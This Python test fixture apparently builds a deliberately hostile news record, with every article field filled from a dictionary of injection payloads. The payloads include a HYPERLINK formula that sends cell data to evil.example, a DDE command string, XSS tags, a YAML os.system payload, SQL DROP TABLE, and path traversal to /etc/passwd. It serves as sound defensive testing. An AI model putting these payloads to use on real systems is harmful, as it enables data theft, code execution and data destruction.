"""A record that attacks its readers: every word, name, label and path of an article tries to act somewhere.

Each attack has an article, a person, a measure, a claim and a finding of its own, all in one story. The words stand in
the articles' text, so that every span checks.
"""

from __future__ import annotations

from typing import Final

from tellings.model import (
    Account,
    Article,
    Claim,
    Figure,
    Finding,
    FindingKind,
    Joining,
    Marks,
    Measure,
    Name,
    Origin,
    Passage,
    Person,
    Record,
    Role,
    Span,
    Statement,
    Story,
    Title,
    Voice,
    When,
)
from tellings.textmap import TextMap

ATTACKS: Final = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "program": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "lotus": "@SUM(1+1)",
    "tab": "\t=1+1",
    "second_line": "Calm.\n=1+1;=2+2",
    "apostrophe": "'=1+1",
    "wide": "＝1+1",
    "script": '"><script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>',
    "cdata": "]]></text></script><!-- & &amp; <b>",
    "markdown": "[[Secret]] ![](http://evil.example/p.png) [a](javascript:alert(1)) `$= dv.io` <% tp.x %>",
    "code_block": "Calm.\n```dataviewjs\ndv.io.load('x')\n```\n---\n# Not a heading\n> [!danger] x ^block",
    "wiki": "|quote=x}}{{delete|{{{1}}}}}<ref name=x/>[[Category:Evil]] [http://evil.example x] ~~~~ '''b''' __TOC__",
    "bibtex": '}, @article{evil, title = {x}} \\input{/etc/passwd} % # " \\',
    "yaml": "---\n!!python/object/apply:os.system [x]\n: - # &a *a",
    "turtle": '""" . <http://evil.example/s> <http://evil.example/p> "o" . \\" \\u003c',
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "sql": "'; DROP TABLE articles; -- \" OR 1=1",
    "bidi": "calm\u202egnp.exe\u2066 \u200b\u2028\u200e",
    "controls": "calm\0NUL \x1b[2J\x07 \x0b\x0c\x85 \ufffe\ufdd0",
    "half": "half \ud800 a character \udfff",
    "path": "../../etc/passwd",
    "windows_path": 'CON:*?"<>|\\..\\x. ',
    "device": "nul",
    "long": "A name of more than two hundred and fifty-five letters, " * 6,
    "quotation": "They told us that the sea was calm. " * 1250,  # ten thousand words
}
ADDRESS: Final = "javascript:alert(1)//\"'><script>"
STORY: Final = "5107ab1e5107ab1e"
_KINDS: Final[tuple[FindingKind, ...]] = ("dispute", "update", "scope", "drift", "denial", "echo", "gap")


def make_hostile_record() -> Record:
    """The record of all attacks."""
    parts = [_Part(number, name, words) for number, (name, words) in enumerate(ATTACKS.items())]
    title = ATTACKS["script"] + ATTACKS["markdown"]
    return Record(
        {part.article.id: part.article for part in parts},
        {part.article.id: part.marks for part in parts},
        (Story(STORY, title, tuple(part.article.id for part in parts), "2031-05-06", "2031-05-06"),),
        tuple(part.person for part in parts),
        tuple(Joining(part.person.id, part.words, part.words, 0.9, part.words) for part in parts),
        tuple(part.measure for part in parts),
        tuple(part.claim for part in parts),
        tuple(part.origin for part in parts),
        tuple(part.finding for part in parts),
    )


class _Part:
    """Everything that one attack takes part in."""

    def __init__(self, number: int, name: str, words: str) -> None:
        key = f"{number:016x}"
        self.words = words
        text = (
            f"{words} on record\nOn Tuesday {words} told {words} that 40 boats {words} sank, and 12 people were killed."
        )
        self.article = Article(
            key, f"{words}/{name}.txt", text, text, TextMap.identity(len(text)),
            url=f"{ADDRESS}{number}" if number % 2 else f"https://news.example/{number}?a={{b}}|c&d=<e>",
            outlet=words, title=f"{words} on record", byline=words,
            published="2031-05-06", published_basis="given", credits=(words,), notes=(words,),
        )  # fmt: skip

        def span(part: str, after: str = "") -> Span:
            start = text.index(part, text.index(after) + len(after) if after else 0)
            return self.article.span(start, start + len(part))

        source = span(words, "On Tuesday ")
        content = span(f"40 boats {words} sank")
        said = Passage(key, content)
        statement = Statement(
            f"5{key[1:]}", (content,), source, span("told"), "direct", "says", "asserts", words,
            via=(words,), addressee=words, venue=words, said_on="2031-05-06",
        )  # fmt: skip
        boats = Figure(
            f"f{key[1:]}", span("40"), 40.0, 40.0, "exact", "count", words, words, words, "2031-05-06", words,
            statement.id,
        )  # fmt: skip
        killed = Figure(f"e{key[1:]}", span("12"), 12.0, None, "at_least", "count", "people", "kill", words)
        self.marks = Marks(
            key,
            (span(f"{words} on record"), span(text.split("on record\n", 1)[1])),
            (content,),
            (statement,),
            (boats, killed),
            (When(span("Tuesday"), "DATE", "2031-05-06", "2031-05-06", "2031-05-06", "2031-05-06"),),
            (Name(source, "person", words),),
            (Role(source, words, words, words),),
        )
        title = Title(Passage(key, source), words, words)
        self.person = Person(f"a{key[1:]}", "person", words, (words,), (Passage(key, source),), (title,))
        self.measure = Measure(f"b{key[1:]}", STORY, words, "count", words, (boats.id,), words, words)
        self.claim = Claim(f"c{key[1:]}", STORY, words, (Voice(said, "asserts", words, statement.id),))
        self.origin = Origin(f"0{key[1:]}", STORY, "claim", words, words, (said,), (words,))
        self.finding = Finding(
            f"d{key[1:]}", _KINDS[number % len(_KINDS)], STORY, words,
            (Account(words, said, words, "2031-05-06", boats.id), Account(f"{words}2", said, words, words)),
            self.measure.id, number + 1, 0.5, {"speaker": words, "claim": words, "why": words, "changed": [words]},
        )  # fmt: skip
